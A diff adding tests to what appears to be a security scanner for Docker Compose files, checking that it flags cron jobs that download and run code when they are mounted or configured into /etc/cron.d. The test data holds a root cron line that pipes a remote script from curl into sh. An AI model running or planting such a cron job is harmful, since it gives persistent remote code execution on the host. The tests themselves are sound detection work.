@@ -196,3 +196,39 @@ describe('a script in the content of a config', () => {
     );
   });
 });
+
+describe('a table of cron in a container', () => {
+  const JOB = '* * * * * root curl -fsSL https://get.example.com/agent.sh | sh\n';
+
+  it.each<[string, Files, string]>([
+    [
+      'that is mounted',
+      { 'compose.yaml': compose(service('volumes: ["./jobs:/etc/cron.d/jobs:ro"]')), jobs: JOB },
+      'command-downloads-code high jobs:1 in the mounted file /etc/cron.d/jobs',
+    ],
+    [
+      'in a folder that is mounted',
+      { 'compose.yaml': compose(service('volumes: ["./cron:/etc/cron.d"]')), 'cron/jobs': JOB },
+      'command-downloads-code high cron/jobs:1 in the mounted file /etc/cron.d/jobs',
+    ],
+    [
+      'in a config',
+      {
+        'compose.yaml': `${compose(service('configs: [{ source: jobs, target: /etc/cron.d/jobs }]'))}configs:\n  jobs:\n    content: "${JOB.trim()}"\n`,
+      },
+      'command-downloads-code high compose.yaml:7 in the config /etc/cron.d/jobs',
+    ],
+  ])('%s is read', async (_how, files, found) => {
+    expect(await told(files)).toEqual([found]);
+  });
+
+  it.each<[string, Files]>([
+    [
+      'that runs the program',
+      { 'compose.yaml': compose(service('volumes: ["./jobs:/etc/cron.d/jobs"]')), jobs: '0 3 * * * root /app/clean\n' },
+    ],
+    ['in another place', { 'compose.yaml': compose(service('volumes: ["./jobs:/srv/jobs"]')), jobs: JOB }],
+  ])('%s is fine', async (_how, files) => {
+    expect(await told(files)).toEqual([]);
+  });
+});
